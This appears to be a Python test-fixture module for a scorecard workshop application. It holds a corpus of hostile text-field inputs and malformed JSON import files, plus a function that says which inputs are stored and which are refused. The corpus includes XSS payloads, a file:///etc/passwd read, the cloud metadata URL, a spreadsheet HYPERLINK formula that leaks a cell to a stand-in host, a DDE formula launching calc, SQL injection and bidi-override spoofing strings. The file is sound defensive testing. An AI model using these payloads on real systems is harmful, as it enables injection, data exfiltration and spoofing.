"""The hostile-input corpus: what people (or their clipboards) type, and the files they import.

`TEXTS` go into text fields; `DOCUMENTS` are files offered to the JSON import. `expected()` says
what storing a text in a field of a given kind must give: the text as typed (trimmed, Unicode NFC,
a single-line field's line breaks folded into spaces), or None when it must be refused with a
message (control characters, NUL, broken Unicode, over the field's limit, empty when required).
"""

from __future__ import annotations

import json
import re
import unicodedata
from dataclasses import dataclass

TEXTS: dict[str, str] = {
    # HTML and script
    "script-tag": "<script>alert(1)</script>",
    "img-onerror": '<img src=x onerror="alert(1)">',
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "svg-onload": "</textarea><svg onload=alert(1)>",
    "html-bold-and-amp": "<b>bold</b> & <i>italic</i> &amp; &copy;",
    "html-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "style-tag": "<style>body{display:none}</style>Hidden?",
    "template-braces": "{{ 7*7 }} {% if true %}x{% endif %} ${7*7}",
    # markdown
    "md-link-javascript": "[click me](javascript:alert(1))",
    "md-image-remote": "![pixel](http://attacker.example/p.png)",
    "md-emphasis": "**bold** _italic_ `code` ~~strike~~",
    "md-heading-list": "# Heading\n\n- one\n- two\n\n> quote",
    "st-colour-icons": ":red[coloured] :material/warning: :smile: :rainbow-background[x]",
    "md-latex": "$x^2$ and $$\\int_0^1 f$$ cost $5 to $10",
    "md-table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "md-autolink": "<https://autolink.example> and www.example.com",
    "md-html-comment": "visible <!-- hidden --> text",
    # URLs
    "url-javascript": "javascript:alert(document.cookie)",
    "url-file": "file:///etc/passwd",
    "url-http-metadata": "http://169.254.169.254/latest/meta-data/",
    "url-query-quotes": 'https://example.com/?q=<x>&y="z"#frag',
    "url-data-html": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    # size
    "long-100k-one-word": "A" * 100_000,
    "long-100k-words": ("word " * 20_000).strip() + "!!!!!",
    "long-100001": "x" * 100_001,
    # control characters
    "nul": "before\x00after",
    "bell-escape": "bell\x07 escape\x1b[31m red",
    "tab-newline-crlf": "tab\tand\nnewline\r\nCRLF",
    "delete-char": "rub\x7fout",
    "unicode-line-separators": "next\u0085line \u2028 sep \u2029 para",
    "lone-surrogate": "broken \ud800 text",
    # right to left and invisible
    "rtl-override": "invoice\u202egpj.exe\u202c",
    "bidi-isolates": "abc\u2066isolated\u2069 \u200fmark",
    "bidi-override-spoof": "Cut \u202eswohs-on\u202c rates",  # reads "Cut no-shows rates"
    "bidi-embedding-rle": "\u202bembedded right to left\u202c then left",
    "bidi-embedding-lre": "\u202aembedded left to right\u202c",
    "bidi-override-lro": "\u202dforced left to right\u202c",
    "bidi-first-strong-isolate": "owner \u2068isolated\u2069 ok",
    "arabic": "مرحبا بالعالم",
    "hebrew": "שלום עולם",
    "zero-width": "zero\u200bwidth\u200djoiner\ufeffbom",
    "zero-width-only": "\u200b\u200d\ufeff\u2060",
    # emoji and lookalikes
    "emoji": "🎯📈 Growth 👩🏽‍💻 🇫🇷",
    "many-emoji": "\U0001f600" * 60,
    "cyrillic-lookalike": "Аtlas Digitаl",  # the A and the second a are Cyrillic
    "fullwidth": "Ｆｕｌｌｗｉｄｔｈ Ｏｒｇ",
    "combining-accent": "Cafe\u0301 Ame\u0301lie",
    "nbsp-padded": "\u00a0 Padded name \u00a0",
    # spreadsheet formulas
    "formula-equals": "=1+1",
    "formula-hyperlink": '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "formula-plus-dde": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(A1:A2)",
    "formula-tab": "\t=1+1",
    # characters HTML cares about, which must still read as typed
    "ampersand-quotes": 'Learning & growth: "customers" first, it\'s <ours>',
    # other
    "sql-injection": "'; DROP TABLE workshop; -- \" OR 1=1",
    "format-strings": "%s %d {0} {name} %(x)s",
    "backslashes": "C:\\new\\table \\n \\\\",
    "whitespace-only": " \t  ",
    "none-word": "None",
}

# --- documents offered to the JSON import -------------------------------------------------


def _mutate(base: dict, change) -> bytes:
    document = json.loads(json.dumps(base))
    change(document)
    return json.dumps(document).encode()


def _set(path: str, value):
    def change(document):
        *parents, last = path.split(".")
        node = document
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node[part]
        if isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value

    return change


# name -> bytes, or a function of a valid export (a dict) giving bytes
DOCUMENTS: dict[str, object] = {
    "json-oversized": lambda base: b'{"format": "scorecard-workshop", "version": 1, "pad": "' + b"x" * 20_000_001 + b'"}',
    "json-truncated": b'{"format": "scorecard-workshop", "version": 1, "workshop": {"unit": "',
    "json-not-utf8": b"\xff\xfe\x00{\x00}",
    "json-deeply-nested": b"[" * 100_000 + b"]" * 100_000,
    "json-top-level-list": b"[]",
    "json-empty-file": b"",
    "json-wrong-format": b'{"format": "excel", "version": 1}',
    "json-future-version": b'{"format": "scorecard-workshop", "version": 2}',
    "json-workshop-missing": b'{"format": "scorecard-workshop", "version": 1}',
    "json-wrong-type-name": lambda base: _mutate(base, _set("workshop.organisation", 123)),
    "json-wrong-type-number": lambda base: _mutate(base, _set("measure.0.baseline", "high")),
    "json-bool-for-integer": lambda base: _mutate(base, _set("workshop.phase", True)),
    "json-table-not-list": lambda base: _mutate(base, _set("theme", {"id": 1})),
    "json-row-not-object": lambda base: _mutate(base, _set("theme.0", "Growth")),
    "json-unknown-field": lambda base: _mutate(base, _set("workshop.is_admin", True)),
    "json-private-token": lambda base: _mutate(base, _set("workshop.join_code", "AAAA")),
    "json-unknown-perspective-id": lambda base: _mutate(base, _set("objective.0.perspective_id", 99)),
    "json-unknown-link-target": lambda base: _mutate(base, _set("causal_link.0.effect_id", 4242)),
    "json-unknown-interview-id": lambda base: _mutate(base, _set("objective_source.0.interview_id", 77)),
    "json-duplicate-id": lambda base: _mutate(base, _set("theme.1.id", 1)),
    "json-string-id": lambda base: _mutate(base, _set("theme.0.id", "1")),
    "json-nan-number": lambda base: json.dumps(json.loads(_mutate(base, _set("measure.0.target", 1.5)))).replace("1.5", "NaN").encode(),
    "json-infinite-number": lambda base: json.dumps(json.loads(_mutate(base, _set("measure.0.target", 1.5)))).replace("1.5", "1e400").encode(),
    "json-nul-in-text": lambda base: _mutate(base, _set("workshop.unit", "a\x00b")),
    "json-lone-surrogate": lambda base: _mutate(base, _set("workshop.unit", "a\ud800b")),
    "json-bad-check-value": lambda base: _mutate(base, _set("workshop.sector", "pirates")),
    # what only a file can carry past the forms: their limits and cleaners apply to it too
    "json-name-10000": lambda base: _mutate(base, _set("participant.0.name", "N" * 10_000)),
    "json-comment-200000": lambda base: _mutate(
        base, lambda d: d["comment"].append({"id": 1, "objective_id": 1, "author": "Dana", "body": "c" * 200_000})
    ),
    "json-title-zero-width-only": lambda base: _mutate(base, _set("objective.3.title", "\u200b\u200d\ufeff")),
    "json-title-empty": lambda base: _mutate(base, _set("objective.0.title", "")),
    "json-title-bidi-override": lambda base: _mutate(base, _set("objective.2.title", "Cut \u202eswohs-on\u202c rates")),
    "json-perspective-bidi-isolate": lambda base: _mutate(base, _set("perspective.0.name", "\u2067Financial\u2069")),
    "json-ballot-only-id": lambda base: _mutate(base, lambda d: d["ballot"].append({"id": 999})),
    "json-round-item-missing-label": lambda base: _mutate(base, lambda d: d["round_item"][0].pop("label")),
    "json-unit-too-long": lambda base: _mutate(base, _set("workshop.unit", "U" * 201)),
    "json-date-not-a-date": lambda base: _mutate(base, _set("measure.0.target_date", "next spring")),
}

# --- what storing a text must give -------------------------------------------------------


@dataclass(frozen=True)
class Kind:
    """A field's rules as the user meets them: its limit, one line or several, required or not."""

    max_len: int
    multiline: bool
    required: bool


NAME = Kind(200, False, True)
OPTIONAL_NAME = Kind(200, False, False)
LONG = Kind(100_000, True, False)
_REFUSED = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]")
BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")  # refused in single-line fields


def expected(text: str, kind: Kind) -> str | None:
    """The stored value the user must see again, or None if the text must be refused."""
    value = unicodedata.normalize("NFC", text) if not _REFUSED.search(text) else text
    value = value.strip()
    if _REFUSED.search(value):
        return None
    if not kind.multiline and BIDI_CONTROLS.search(value):
        return None  # it could make a title read otherwise than typed ("Cut no-shows rates")
    if not kind.multiline and ("\n" in value or "\r" in value):
        value = " ".join(value.split())
    if len(value) > kind.max_len or (kind.required and not value):
        return None
    if kind.required and all(unicodedata.category(ch) in ("Cc", "Cf", "Zs", "Zl", "Zp") for ch in value):
        return None  # nothing visible: a title nobody could see or click
    return value
